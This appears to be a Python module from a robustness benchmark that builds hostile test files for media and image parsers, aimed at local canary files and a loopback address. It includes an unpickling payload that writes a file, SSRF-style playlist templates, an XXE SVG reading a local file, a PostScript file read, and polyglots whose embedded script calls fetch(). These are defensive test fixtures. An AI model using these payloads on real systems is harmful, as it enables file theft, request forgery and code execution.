"""Files that are two things at once, or that name other files and addresses: nobody may follow them."""

import pickle
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from benchmarks.robustness.corpus.bombs import box, chunk, small_png
from benchmarks.robustness.corpus.originals import clip, picture, zipped

Random = random.Random


@dataclass(frozen=True, slots=True)
class Bait:
    """What a hostile file names, so that it can be seen whether anyone bit."""

    folder: Path
    """Of the files that may not be read (`canary.mp4`, `canary.png`, `canary.txt`), nor written (`touched`)."""
    address: str
    """Of a server on this machine that counts its visitors, such as `http://127.0.0.1:9`."""

    @property
    def clip(self) -> Path:
        return self.folder / "canary.mp4"

    @property
    def picture(self) -> Path:
        return self.folder / "canary.png"

    @property
    def text(self) -> Path:
        return self.folder / "canary.txt"

    @property
    def touched(self) -> Path:
        """The file that hostile code would write."""
        return self.folder / "touched"


NOWHERE = Bait(Path("/nowhere"), "http://127.0.0.1:9")
"""For those who only want bytes."""


class Code:
    """Writes the bait's file when it is unpickled."""

    def __init__(self, bait: Bait) -> None:
        self.bait = bait

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self.bait.touched), "w")  # opening it is enough, and needs no shell


def playlist(rng: Random, bait: Bait) -> tuple[bytes, str]:
    """A list of other files in some form, under its own ending or a clip's."""
    target = rng.choice((str(bait.clip), f"file:{bait.clip}", f"{bait.address}/clip.mp4", f"{bait.address}/key"))
    text, ending = rng.choice(PLAYLISTS)
    if rng.random() < 0.5:
        ending = rng.choice(("mp4", "mov", "webm", "mkv", "avi", "gif", "png", "jpg"))
    filled = text.replace("{target}", target).replace("{address}", bait.address).replace("{text}", str(bait.text))
    return filled.encode(), ending


PLAYLISTS = (
    ("#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n{target}\n#EXT-X-ENDLIST\n", "m3u8"),
    ('#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{address}/key"\n#EXTINF:1,\n{target}\n#EXT-X-ENDLIST\n', "m3u8"),
    ("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nconcat:{text}|{target}\n#EXT-X-ENDLIST\n", "m3u8"),
    ("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{address}/inner.m3u8\n", "m3u"),
    ("#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,64,,:{text}\n#EXT-X-ENDLIST\n", "m3u8"),
    ("ffconcat version 1.0\nfile '{target}'\nduration 1\n", "ffconcat"),
    ("file '{target}'\nfile '{text}'\n", "txt"),
    (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>'
        '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{target}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>",
        "mpd",
    ),
    ('<asx version="3.0"><entry><ref href="{target}"/></entry></asx>', "asx"),
    ("[playlist]\nNumberOfEntries=1\nFile1={target}\n", "pls"),
    (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="64" height="64"><image xlink:href="{target}" width="64" height="64"/></svg>',
        "svg",
    ),
    (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{text}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text>&x;</text></svg>',
        "svg",
    ),
    ("<smil><body><video src='{target}'/></body></smil>", "smil"),
    (";FFMETADATA1\ntitle={target}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=1\n", "ffmetadata"),
    ("v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n", "sdp"),
    ("%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n({text}) (r) file\n", "eps"),
    ("push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 '{target}'\npop graphic-context\n", "mvg"),
    ("movie={target}\n", "txt"),
)


def polyglot(rng: Random, bait: Bait) -> tuple[bytes, str]:
    """A file that is a sound picture or clip and something else as well."""
    maker, ending = rng.choice(POLYGLOTS)
    return maker(bait), ending


def _archive(bait: Bait) -> bytes:
    return zipped({"archive/data.pkl": pickle.dumps(Code(bait)), "archive/version": b"3\n"}, zipfile.ZIP_STORED)


def _page(bait: Bait) -> bytes:
    return f"<html><script src='{bait.address}/a.js'></script><img src='{bait.address}/b.png'></html>".encode()


def _gif_script(bait: Bait) -> bytes:
    """The width of the screen is the beginning of a comment, as in the well-known trick."""
    content = bytearray(picture("gif"))
    struct.pack_into("<H", content, 6, 0x2A2F)
    return bytes(content) + f"*/=1;fetch('{bait.address}/js')".encode()


def _jpeg_page(bait: Bait) -> bytes:
    comment = _page(bait)
    return picture("jpg")[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + picture("jpg")[2:]


def _referring_clip(bait: Bait) -> bytes:
    """An MP4 whose data reference says that its frames lie in another file."""
    alias = bytes(4) + b"\0\0\0\1" + str(bait.clip).encode() + b"\0"
    return clip("mp4").replace(b"url \0\0\0\1", b"url \0\0\0\0") + box(b"moov", box(b"rmra", box(b"rdrf", alias)))


POLYGLOTS: tuple[tuple[Callable[[Bait], bytes], str], ...] = (
    (lambda bait: picture("png") + _archive(bait), "png"),
    (lambda bait: picture("png") + _archive(bait), "pth"),
    (_gif_script, "gif"),
    (_jpeg_page, "jpg"),
    (lambda bait: small_png(chunk(b"tEXt", b"Comment\0" + _page(bait))), "html"),
    (lambda bait: small_png(chunk(b"tEXt", b"Raw profile type exif\0" + b"\nexif\n 9999\n" + b"zz" * 100)), "png"),
    (lambda bait: clip("mp4") + pickle.dumps(Code(bait)), "mp4"),
    (lambda bait: pickle.dumps(Code(bait)) + clip("mp4"), "mp4"),
    (lambda bait: clip("mp4") + _archive(bait), "pth"),
    (_referring_clip, "mov"),
    (lambda bait: clip("mkv") + f"#EXTM3U\n{bait.address}/x\n".encode(), "mkv"),
    (lambda bait: b"#EXTM3U\n" + clip("ts"), "ts"),
    (lambda bait: picture("webp") + clip("webm"), "webm"),
    (lambda bait: picture("bmp") + _page(bait), "bmp"),
)
